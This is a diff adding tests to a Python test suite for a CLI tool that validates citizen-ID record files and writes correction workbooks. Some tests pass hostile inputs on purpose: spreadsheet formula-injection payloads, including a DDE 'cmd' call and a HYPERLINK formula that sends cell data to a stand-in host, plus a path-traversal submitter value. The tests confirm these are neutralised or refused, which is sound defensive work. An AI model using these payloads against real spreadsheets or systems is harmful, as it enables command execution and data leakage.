@@ -12,6 +12,7 @@ from typer.testing import CliRunner
 
 from sbcard_core.cli.app import app
 from sbcard_core.fields import citizen_id
+from sbcard_core.files import MARKER, read_cell
 from sbcard_core.validation.spec import COLLECTION
 from sbcard_core.values import mask_id
 
@@ -118,6 +119,9 @@ def test_corrections_come_back(tmp_path: Path, dirty: Path) -> None:
     book.worksheets[2].delete_rows(3)
     book.save(path)
     code, said = run("corrections", path, "--checked", out, "--out", tmp_path / "back")
+    assert code == 2  # the records taken before are kept
+    assert "is there already" in said
+    code, said = run("corrections", path, "--checked", out, "--out", tmp_path / "later")
     assert code == 1
     assert "该记录已从表中删除" in said
 
@@ -136,7 +140,7 @@ def test_a_cap_shortens_the_tables_and_never_the_workbook(tmp_path: Path) -> Non
     for file in files:
         book = openpyxl.load_workbook(out / f"kickback/{file.name}.xlsx")
         assert book.worksheets[2].max_row == 21
-    assert sorted(path.name for path in out.iterdir() if path.name.startswith(".")) == []  # nothing waits any more
+    assert sorted(path.name for path in out.iterdir() if path.name.startswith(".")) == [MARKER]
 
 
 def test_known_numbers_and_repairs(tmp_path: Path) -> None:
@@ -157,7 +161,9 @@ def test_known_numbers_and_repairs(tmp_path: Path) -> None:
     [
         (["--spec", "nothing"], "no layout"),
         (["--repairs", "all"], "repairs"),
-        (["--out", "held"], "earlier check"),
+        (["--out", "held"], "no folder of results"),
+        (["--submitter", "../../x"], "no code of six digits"),
+        (["--submitter", "４３０１００"], "no code of six digits"),
         (["--on", "2014-13-01"], "on"),
         (["--known", "absent.txt"], "known"),
     ],
@@ -171,6 +177,91 @@ def test_a_refused_call_ends_with_2(
     code, said = run("check", write(tmp_path / "a.csv", record(1)), *arguments)
     assert code == 2
     assert words in said
+
+
+def tree(path: Path) -> dict[str, bytes]:
+    return {str(one.relative_to(path)): one.read_bytes() for one in sorted(path.rglob("*")) if one.is_file()}
+
+
+def test_results_are_not_written_over_nor_among_other_files(tmp_path: Path, dirty: Path) -> None:
+    day = ("--on", "2014-07-31")
+    run("check", dirty, *day, "--out", tmp_path / "q")
+    before = tree(tmp_path)
+    again = write(tmp_path / "again.csv", record(1))
+    before["again.csv"] = again.read_bytes()
+    for file, out in (
+        (again, tmp_path / "q"),  # finished results
+        (tmp_path / "q/findings.csv", tmp_path / "q"),  # over the very input
+        (tmp_path / "q/accepted/430100.csv", tmp_path / "q/accepted"),
+        (again, tmp_path),  # among other files
+    ):
+        code, said = run("check", file, *day, "--out", out)
+        assert (code, "files" in said) == (2, True)
+        assert tree(tmp_path) == before
+
+
+def test_a_check_that_was_broken_off_is_begun_anew(tmp_path: Path, dirty: Path) -> None:
+    whole = tmp_path / "whole"
+    _, said = run("check", dirty, "--on", "2014-07-31", "--out", whole)
+    assert "broken off" not in said
+    half = tmp_path / "half"
+    (half / ".unfinished/accepted").mkdir(parents=True)
+    (half / MARKER).write_bytes((whole / MARKER).read_bytes())
+    (half / ".unfinished/accepted/430100.csv").write_text("half")
+    (half / "findings.csv").write_text("moved before it was killed")
+    code, said = run("corrections", whole / "kickback/430100.csv.xlsx", "--checked", half, "--out", tmp_path / "x")
+    assert code == 2
+    code, said = run("check", dirty, "--on", "2014-07-31", "--out", half)
+    assert code == 1
+    assert "broken off" in said
+    same = ("accepted/430100.csv", "findings.csv", "summary.csv", "conflicts.csv", "quarantine/430100.csv.quarantine")
+    assert [(half / name).read_bytes() for name in same] == [(whole / name).read_bytes() for name in same]
+    assert not (half / ".unfinished").exists()
+
+
+def test_workbooks_of_one_name_are_not_read_at_all(tmp_path: Path, dirty: Path) -> None:
+    out = tmp_path / "out"
+    run("check", dirty, "--on", "2014-07-31", "--out", out)
+    books = [tmp_path / folder / name for folder, name in (("a", "fix.xlsx"), ("b", "FIX.xlsx"))]
+    for book in books:
+        book.parent.mkdir()
+        book.write_bytes((out / "kickback/430100.csv.xlsx").read_bytes())
+    code, said = run("corrections", *books, "--checked", out, "--out", tmp_path / "back")
+    assert code == 2
+    assert "fix.corrected.csv" in said
+    assert not (tmp_path / "back").exists()
+
+
+RUNS = ["=cmd|' /C calc'!A0", "@SUM(1)", "+1+1", '=HYPERLINK("http://a.example?"&C2)', "\t=1+1"]
+
+
+@pytest.mark.parametrize("formula", RUNS)
+def test_no_table_that_is_written_holds_a_formula(tmp_path: Path, formula: str) -> None:
+    cell = '"' + formula.replace('"', '""') + '"'
+    file = write(tmp_path / "=a.csv", record(1, seq=cell), record(3, seq=cell, county="999999"), f"{cell},x")
+    run("check", file, "--on", "2014-07-31", "--out", tmp_path / "out")
+    tables = [path for path in (tmp_path / "out").rglob("*.csv") if path.is_file()]
+    assert len(tables) == 4
+    for table in tables:
+        with table.open(encoding="utf-8-sig", newline="") as opened:
+            cells = [one for row in csv.reader(opened) for one in row]
+        assert [one for one in cells if one.lstrip(" ").startswith(("=", "+", "@", "\t"))] == []
+    (accepted,) = rows(tmp_path / "out/accepted/=a.csv")
+    assert read_cell(accepted["序号"]).strip() == formula.strip()
+
+
+@pytest.mark.skipif(os.name != "posix", reason="modes of POSIX")
+def test_what_a_check_makes_is_its_users_alone(tmp_path: Path, dirty: Path) -> None:
+    before = os.umask(0)
+    try:
+        run("check", dirty, "--on", "2014-07-31", "--out", tmp_path / "out")
+        book = tmp_path / "out/kickback/430100.csv.xlsx"
+        run("corrections", book, "--checked", tmp_path / "out", "--out", tmp_path / "back")
+    finally:
+        os.umask(before)
+    made = [tmp_path / "out", tmp_path / "back", *(tmp_path / "out").rglob("*"), *(tmp_path / "back").rglob("*")]
+    assert len(made) > 10
+    assert [path for path in made if path.stat().st_mode & 0o077] == []
 
 
 def test_a_workbook_of_somebody_else_is_refused(tmp_path: Path, dirty: Path) -> None:
